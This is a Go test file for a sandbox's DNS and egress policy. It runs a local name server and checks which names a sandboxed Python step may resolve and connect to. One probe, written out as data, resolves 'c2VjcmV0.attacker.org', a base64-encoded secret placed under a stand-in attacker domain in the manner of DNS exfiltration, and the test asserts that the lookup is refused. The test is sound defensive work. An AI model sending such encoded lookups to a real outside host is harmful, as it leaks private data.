package sandbox

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/kizen/kizen-sidecar/internal/routine"
	"github.com/kizen/kizen-sidecar/runner/egress"
)

// nameServer is a DNS server that records its queries.
type nameServer struct {
	at    netip.AddrPort
	mu    sync.Mutex
	asked []string
}

// answer answers a query. db.example.com has an address, alias.example.com is an alias of it, the answer for
// large.example.com does not fit into a datagram, and no other name exists.
func (n *nameServer) answer(question []byte, over string) []byte {
	var message dnsmessage.Message
	if message.Unpack(question) != nil || len(message.Questions) != 1 || len(message.Additionals) > 0 {
		return nil
	}
	asked := message.Questions[0]
	name := strings.TrimSuffix(strings.ToLower(asked.Name.String()), ".")
	n.mu.Lock()
	n.asked = append(n.asked, over+" "+name)
	n.mu.Unlock()
	message.Response, message.RecursionAvailable = true, true
	target := dnsmessage.MustNewName("db.example.com.")
	address := dnsmessage.Resource{
		Header: dnsmessage.ResourceHeader{Name: asked.Name, Class: dnsmessage.ClassINET, TTL: 60},
		Body:   &dnsmessage.AResource{A: [4]byte{127, 0, 0, 1}},
	}
	switch {
	case !slices.Contains([]string{"db.example.com", "alias.example.com", "large.example.com"}, name):
		message.RCode = dnsmessage.RCodeNameError
	case asked.Type != dnsmessage.TypeA: // no data
	case name == "alias.example.com":
		message.Answers = append(message.Answers,
			dnsmessage.Resource{Header: address.Header, Body: &dnsmessage.CNAMEResource{CNAME: target}})
		address.Header.Name = target
		message.Answers = append(message.Answers, address)
	case name == "large.example.com" && over == "udp":
		message.Truncated = true
	default:
		message.Answers = append(message.Answers, address)
	}
	packed, err := message.Pack()
	if err != nil {
		return nil
	}
	return packed
}

func (n *nameServer) questions() []string {
	n.mu.Lock()
	defer n.mu.Unlock()
	return slices.Clone(n.asked)
}

func newNameServer(t *testing.T) *nameServer {
	t.Helper()
	listener, datagrams := bothOf(t, "127.0.0.1")
	n := &nameServer{at: addressOf(listener)}
	routine.Go(func() {
		buffer := make([]byte, 1<<16)
		for {
			size, from, err := datagrams.ReadFromUDPAddrPort(buffer)
			if errors.Is(err, net.ErrClosed) {
				return
			}
			_, _ = datagrams.WriteToUDPAddrPort(n.answer(buffer[:size], "udp"), from)
		}
	})
	routine.Go(func() {
		for {
			connection, err := listener.Accept()
			if err != nil {
				return
			}
			routine.Go(func() {
				defer connection.Close()
				var size [2]byte
				if _, err := io.ReadFull(connection, size[:]); err != nil {
					return
				}
				question := make([]byte, binary.BigEndian.Uint16(size[:]))
				if _, err := io.ReadFull(connection, question); err != nil {
					return
				}
				answer := n.answer(question, "tcp")
				_, _ = connection.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(answer))), answer...))
			})
		}
	})
	return n
}

// named permits only connections to addresses that were found under names below example.com.
type named struct{}

func (named) Connect(names []string, _ netip.AddrPort, _ string) egress.Decision {
	for _, name := range names {
		if strings.HasSuffix(name, ".example.com") {
			return egress.Decision{Allowed: true, Host: name, Policy: "named"}
		}
	}
	return egress.Decision{Host: names[0], Policy: "unnamed", Code: "policy", Reason: "it has no permitted name"}
}

func (named) Resolve(name string) egress.Decision {
	if strings.HasSuffix(name, ".example.com") {
		return egress.Decision{Allowed: true}
	}
	return egress.Decision{Policy: "names", Code: "policy", Reason: "the name is not permitted"}
}

// TestNamesAreResolvedByTheSidecar: a forbidden name must reach no server, and an address is permitted only under the
// name under which it was found.
func TestNamesAreResolvedByTheSidecar(t *testing.T) {
	if slices.Contains(egress.NameServers(), netip.MustParseAddr("127.0.0.1")) {
		t.Log("the machine has no name server of its own")
	}
	target := newTarget(t, "127.0.0.1")
	for _, name := range []string{"everything", "forks", "no namespaces"} {
		t.Run(name, func(t *testing.T) {
			server := newNameServer(t)
			config := environments[name]
			config.upstream = server.at
			s := newSandbox(t, config)
			if name == "forks" {
				forking.Store(s, true)
			}
			r, record := supervisedBy(t, s, NetworkPolicy, named{}, attempt+`
port = int(sys.argv[1])
def refused(host):
    try: socket.create_connection((host, port), 5); print("connected to", host)
    except PermissionError: return
def unknown(host):
    try: print(host, "is", socket.getaddrinfo(host, port))
    except socket.gaierror as e: assert e.errno == socket.EAI_NONAME, e
refused("127.0.0.1"); refused("localhost")
for host in "db.example.com", "ALIAS.example.com", "large.example.com.":
    s = socket.create_connection((host, port), 5); assert s.recv(5) == b"hello"; s.close()
unknown("c2VjcmV0.attacker.org"); unknown("nothing.example.com")
print("ok")`, func(spec *Spec) {
				spec.Env = append(spec.Env, "RES_OPTIONS=use-vc")
				spec.Argv = append(spec.Argv, fmt.Sprint(target.at.Port()), "0")
			})
			if r.out != "ok" || r.Code != 0 {
				t.Errorf("exit code %d: %s", r.Code, r.out)
			}
			asked := server.questions()
			for _, want := range []string{"udp db.example.com", "udp alias.example.com", "udp large.example.com",
				"tcp large.example.com", "udp nothing.example.com"} {
				if !slices.Contains(asked, want) {
					t.Errorf("the name server was not asked for %q: %q", want, asked)
				}
			}
			if slices.ContainsFunc(asked, func(q string) bool { return strings.Contains(q, "attacker") }) {
				t.Errorf("the name server was asked for a refused name: %q", asked)
			}
			var seen []string
			for _, c := range record.Connections {
				seen = append(seen, fmt.Sprintf("%s %s %t", c.Transport, c.Host, c.Allowed))
			}
			for _, want := range []string{"tcp  false", "tcp db.example.com true", "tcp alias.example.com true",
				"tcp large.example.com true", "dns c2vjcmv0.attacker.org false"} {
				if !slices.Contains(seen, want) {
					t.Errorf("%q is not recorded: %q", want, seen)
				}
			}
		})
	}
}

// TestOnlyTheStepAsksItsResolver: the resolver must not answer another program of the machine.
func TestOnlyTheStepAsksItsResolver(t *testing.T) {
	server := newNameServer(t)
	s := newSandbox(t, Config{upstream: server.at})
	out, printed, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	process, stop, err := start(t.Context(), s, Spec{
		Argv: []string{python, "-I", "-S", "-c", `
import os, socket
s = socket.create_connection((os.environ["SERVER"], 53)); print("%s:%d" % s.getpeername(), flush=True); s.recv(1)`},
		Env: []string{"HOME=/tmp", "SERVER=" + egress.NameServers()[0].String()}, Stdout: printed, Stderr: printed,
		Network: NetworkPolicy,
	})
	printed.Close()
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	var at string
	if _, err := fmt.Fscanln(out, &at); err != nil {
		t.Fatal(err)
	}
	connection, err := net.Dial("tcp", at)
	if err != nil {
		t.Fatal(err)
	}
	defer connection.Close()
	if n, err := connection.Read(make([]byte, 1)); err == nil {
		t.Errorf("got %d bytes", n)
	}
	process.Kill()
	process.Wait()
	if asked := server.questions(); asked != nil {
		t.Errorf("asked %q", asked)
	}
}
